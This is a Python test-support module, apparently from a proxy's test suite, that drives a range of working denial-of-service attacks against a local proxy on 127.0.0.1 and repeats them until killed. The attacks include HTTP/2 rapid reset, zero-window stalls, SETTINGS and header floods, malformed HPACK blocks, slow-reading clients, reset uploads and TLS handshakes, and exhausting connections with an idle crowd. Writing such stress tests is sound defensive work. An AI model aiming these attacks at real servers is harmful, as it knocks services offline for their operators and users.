"""A client that means harm, in one of several ways; a process of its own.

`python -m tests.support.attacker KIND PORT` prints a line when its first attack is out, and attacks again and
again until it is killed. Whatever the proxy answers is read and thrown away; a connection that it ends is opened anew.
Each way of `KINDS` is the worst input of a parser, a cache or a buffer, as somebody has found it.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Final

from tests.support.http2_frames import PREFACE, raw_frame

_HOST: Final = b"Host: a\r\n"
_CHUNKED: Final = b"POST /up HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n" % _HOST
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _WINDOW_UPDATE = 0, 1, 3, 4, 8
_ACK = _END_STREAM = 1
_END_HEADERS: Final = 4
_LETTERS: Final = [bytes((a, b, c)) for a in range(97, 123) for b in range(97, 123) for c in range(97, 123)]
_SERIAL: Final = itertools.count()
PATIENCE: Final = 1.0
"""Seconds that an attack waits at most for the proxy to take or answer something."""


def _literal(name: bytes, value: bytes) -> bytes:
    """A field of HPACK without a place in the table; lengths below 127."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def _request(method: bytes, path: bytes) -> bytes:
    return (
        _literal(b":method", method)
        + _literal(b":scheme", b"http")
        + _literal(b":authority", b"a")
        + _literal(b":path", path)
    )


_GET: Final = _request(b"GET", b"/")
_POST: Final = _request(b"POST", b"/up")


def _send(port: int, *pieces: bytes) -> None:
    """Send all of it over a new connection, whatever comes back, and wait for an answer or the end."""
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as sock, contextlib.suppress(OSError):
        for piece in pieces:
            sock.sendall(piece)
        sock.recv(1 << 16)


def _head(*lines: bytes) -> bytes:
    return b"\r\n".join((b"GET / HTTP/1.1", b"Host: a", *lines, b"", b""))


def _rotated() -> bytes:
    """A list of tokens of 60 KB that was never sent before."""
    turn = next(_SERIAL) % len(_LETTERS)
    return b",".join((_LETTERS[turn:] + _LETTERS[:turn])[:15_000])


def _settings(port: int) -> None:
    """Settings that nobody knows, in full frames."""
    frames = [
        raw_frame(_SETTINGS, 0, 0, b"".join(struct.pack(">HI", number, 1) for number in range(first, first + 2700)))
        for first in range(0x10, 0x10000 - 2700, 2700)
    ]
    _send(port, PREFACE + raw_frame(_SETTINGS, 0, 0), *frames)


def _no_window(port: int) -> None:
    """A hundred downloads, and no window for any of them."""
    zero = raw_frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    heads = [
        raw_frame(_HEADERS, _END_HEADERS | _END_STREAM, number, _request(b"GET", b"/endless"))
        for number in range(1, 200, 2)
    ]
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as sock, contextlib.suppress(OSError):
        sock.sendall(PREFACE + zero + b"".join(heads))
        time.sleep(PATIENCE)


def _tiny_data(port: int) -> None:
    """An upload in frames of one byte, as far as the windows go."""
    pieces = raw_frame(_DATA, 0, 1, b"x") * 500
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as sock, contextlib.suppress(OSError):
        sock.sendall(PREFACE + raw_frame(_SETTINGS, 0, 0) + raw_frame(_HEADERS, _END_HEADERS, 1, _POST))
        window, buffer = 65_535, b""
        until = time.monotonic() + 10
        while time.monotonic() < until:
            if window >= 500:
                sock.sendall(pieces)
                window -= 500
                if window >= 500:
                    continue
            buffer += sock.recv(1 << 16)
            while len(buffer) >= 9 + (length := int.from_bytes(buffer[:3], "big")):
                if buffer[3] == _WINDOW_UPDATE and int.from_bytes(buffer[5:9], "big") == 1:
                    window += int.from_bytes(buffer[9:13], "big")
                if buffer[3] == 7:
                    return
                buffer = buffer[9 + length :]


def _rapid_reset(port: int) -> None:
    """Requests that are taken back at once."""
    frames = b"".join(
        raw_frame(_HEADERS, _END_HEADERS | _END_STREAM, number, _GET) + raw_frame(_RST_STREAM, 0, number, bytes(4))
        for number in range(1, 400, 2)
    )
    _send(port, PREFACE + raw_frame(_SETTINGS, 0, 0) + frames)


def _bad_block(port: int) -> None:
    """A field block that cannot be read, of the largest size."""
    _send(port, PREFACE + raw_frame(_SETTINGS, 0, 0) + raw_frame(_HEADERS, _END_HEADERS, 1, b"\xff" * 16_384))


def _huffman(port: int) -> None:
    """Fields of Huffman code, each as long as a head may be."""
    value = b"\x00\x01x" + b"\x7f" + b"\xe1\x7c" + b"\x18\xc6" * 8_000
    _send(port, PREFACE + raw_frame(_SETTINGS, 0, 0) + raw_frame(_HEADERS, _END_HEADERS, 1, _GET + value[:16_000]))


def _not_reading(port: int) -> None:
    """A body in pieces, to a client that does not read for a while."""
    with socket.socket() as sock, contextlib.suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(PATIENCE)
        sock.connect(("127.0.0.1", port))
        sock.sendall(b"GET /pieces HTTP/1.1\r\n%b\r\n" % _HOST)
        time.sleep(PATIENCE)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        for _ in range(200):
            sock.recv(1 << 20)


def _half_uploads(port: int) -> None:
    """Uploads that are reset in the middle, again and again."""
    for _ in range(20):
        with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as sock, contextlib.suppress(OSError):
            sock.sendall(b"POST /up HTTP/1.1\r\n%bContent-Length: 9999999\r\n\r\n" % _HOST + bytes(200_000))
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def _tls_resets(port: int) -> None:
    """TLS handshakes that end in a request and a reset, both at once."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as sock, contextlib.suppress(OSError):
        while True:
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                sock.sendall(outgoing.read())
                incoming.write(sock.recv(1 << 16))
        tls.write(b"GET / HTTP/1.1\r\n%b\r\n" % _HOST)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.sendall(outgoing.read())


def _trailers() -> Iterator[bytes]:
    yield _CHUNKED + b"8000\r\n" + bytes(0x8000) + b"\r\n0\r\n"
    yield b"".join(b"%03x:\r\n" % (number % 4096) for number in range(60_000))


KINDS: Final[dict[str, Callable[[int], None]]] = {
    "trailer of spaces": lambda port: _send(port, _CHUNKED + b"0\r\nx:" + b" " * 4000 + b"\x01\r\n\r\n"),
    "many trailers": lambda port: _send(port, *_trailers()),
    "transfer encoding of spaces": lambda port: _send(port, _head(b"Transfer-Encoding: x" + b" " * 65_000 + b"y")),
    "connection of many names": lambda port: _send(port, _head(b"Connection: " + _rotated())),
    "long query of secrets": lambda port: _send(port, b"GET /?%b HTTP/1.1\r\n%b\r\n" % (b"token=&" * 9_000, _HOST)),
    "path of dots": lambda port: _send(port, b"GET %b HTTP/1.1\r\n%b\r\n" % (b"/a;/..%2f" * 7_000, _HOST)),
    "many cookies": lambda port: _send(port, _head(*[b"Cookie: a=b"] * 99)),
    "forwarded of commas": lambda port: _send(port, _head(b"X-Forwarded-For: " + b"1," * 30_000)),
    "unknown settings": _settings,
    "streams without a window": _no_window,
    "data of one byte": _tiny_data,
    "rapid reset": _rapid_reset,
    "unreadable block": _bad_block,
    "huffman": _huffman,
    "client that does not read": _not_reading,
    "uploads reset": _half_uploads,
}
"""One attack of each kind, over plain connections."""

CROWD: Final = 2_000
"""Connections of the kind that only takes places."""


def _idle_crowd(port: int) -> None:
    """Many connections without a byte; those that are ended are opened anew."""
    crowd: list[socket.socket] = []
    try:
        while len(crowd) < CROWD:
            crowd.append(socket.create_connection(("127.0.0.1", port), timeout=PATIENCE))
    except OSError:
        pass
    time.sleep(10 * PATIENCE)
    for sock in crowd:
        sock.close()


CROWDS: Final[dict[str, Callable[[int], None]]] = {"idle crowd": _idle_crowd}
"""Those that take places and descriptors."""

TLS_KINDS: Final[dict[str, Callable[[int], None]]] = {"handshakes reset": _tls_resets}
"""Those over TLS."""


def main(kind: str, port: int) -> None:
    """Go on until killed."""
    attack = {**KINDS, **CROWDS, **TLS_KINDS}[kind]
    for number in itertools.count():
        with contextlib.suppress(ConnectionError, TimeoutError):
            attack(port)
        if not number:
            print("begun", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
